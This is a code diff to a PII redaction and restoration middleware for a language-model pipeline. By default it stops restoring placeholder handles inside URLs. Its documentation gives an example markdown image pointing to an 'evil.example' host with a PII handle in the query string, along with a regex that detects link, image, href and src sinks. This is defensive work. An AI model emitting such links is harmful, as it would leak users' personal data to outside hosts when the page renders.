@@ -90,6 +90,15 @@ the input back byte for byte: repeated values, values that contain each other,
 and user text that looks like a handle included. Handle-shaped strings with no
 entry in the map are left as they are.
 
+Handles in URLs stay handles. A model can write a handle into a link or an
+image address (`![x](https://evil.example/?q=[EMAIL_1])`, `<mailto:[EMAIL_1]>`,
+a bare `https://...` URL, an `href=`/`src=` value); restoring it there would
+hand the value to whoever serves that address as soon as the host renders or
+fetches it. So by default restoration replaces handles in text only, leaves the
+ones inside URLs as they are and lists them in `metadata.keptInUrls`; with
+`restoreInUrls: true` every handle is restored (the exact round trip then holds
+for any input, URLs the user wrote with PII in them included).
+
 Hand-written detection, on purpose. The libraries that find PII in free text
 either load NLP models at run time (Presidio needs a spaCy model download,
 which this deployment cannot do) or pull in large dependency trees for
@@ -445,11 +454,34 @@ def redact_text(text: str, handles: HandleMap, strict: bool = False, region: str
     return "".join(out)
 
 
-def restore_text(text: str, redactions: dict[str, str], unknown: list[str] | None = None) -> tuple[str, int]:
+# Where a restored value would leave the text: markdown link/image destinations, autolinks, bare URLs, href/src.
+URL_SPAN_RE = re.compile(
+    r"\]\([^)\s]*\)?"
+    r"|<(?i:https?|ftp|file|mailto|data):[^>\s]*>?"
+    r"|(?i:\b(?:https?|ftp|file)://|\bmailto:|\bdata:)\S+"
+    r"|(?i:\b(?:href|src|action|formaction)\s*=\s*)(?:\"[^\"]*\"?|'[^']*'?|[^\s>]+)")
+
+
+def _url_spans(text: str) -> list[tuple[int, int]]:
+    return [m.span() for m in URL_SPAN_RE.finditer(text)]
+
+
+def restore_text(text: str, redactions: dict[str, str], unknown: list[str] | None = None,
+                 in_urls: bool = True, kept: list[str] | None = None) -> tuple[str, int]:
     restored = 0
+    urls = [] if in_urls else _url_spans(text)
+    url_starts = [start for start, _ in urls]
+
+    def in_url(position: int) -> bool:
+        i = bisect.bisect_right(url_starts, position) - 1
+        return i >= 0 and position < urls[i][1]
 
     def swap(m: re.Match) -> str:
         nonlocal restored
+        if urls and in_url(m.start()) and m.group(1) in redactions:
+            if kept is not None and m.group(1) not in kept:
+                kept.append(m.group(1))
+            return m.group(0)
         value = redactions.get(m.group(1))
         if value is None:
             if unknown is not None and m.group(1) not in unknown:
@@ -488,6 +520,11 @@ RESTORATION_SCHEMA = {
     "type": "object",
     "properties": {
         "redactions": {**_MAP_SCHEMA, "description": "handle -> original value, as pii_redaction returned it"},
+        "restoreInUrls": {
+            "type": "boolean", "default": False,
+            "description": "also restore handles inside URLs (markdown link and image destinations, autolinks, bare "
+                           "URLs, href/src values); off by default so a value cannot leave through an address "
+                           "the model wrote"},
     },
     "required": ["redactions"],
     "additionalProperties": False,
@@ -517,16 +554,21 @@ def pii_restoration(context: list[dict], arguments: dict) -> dict:
     if "redactions" not in arguments:
         raise ValueError("redactions (the handle -> value map pii_redaction returned) is required")
     redactions = validate_map(arguments["redactions"], "redactions")
-    total, unknown = 0, []
+    in_urls = arguments.get("restoreInUrls", False)
+    if not isinstance(in_urls, bool):
+        raise ValueError("restoreInUrls must be true or false")
+    total, unknown, kept = 0, [], []
     content = []
     for block in context:
         if is_text(block):
-            text, n = restore_text(block["text"], redactions, unknown)
+            text, n = restore_text(block["text"], redactions, unknown, in_urls, kept)
             block, total = {**block, "text": text}, total + n
         content.append(block)
     metadata: dict = {"restored": total}
     if unknown:
         metadata["unknownHandles"] = unknown
+    if kept:
+        metadata["keptInUrls"] = kept
     return {"content": content, "metadata": metadata}
 
 
@@ -540,5 +582,5 @@ DEFINITION = MiddlewareSpec(
 RESTORATION = MiddlewareSpec(
     "pii_restoration",
     "Replace every [HANDLE] in text blocks with its original value from `redactions`, exactly; unknown handles "
-    "are left as they are.",
+    "are left as they are, and so are handles inside URLs (metadata.keptInUrls) unless restoreInUrls is true.",
     RESTORATION_SCHEMA, pii_restoration)
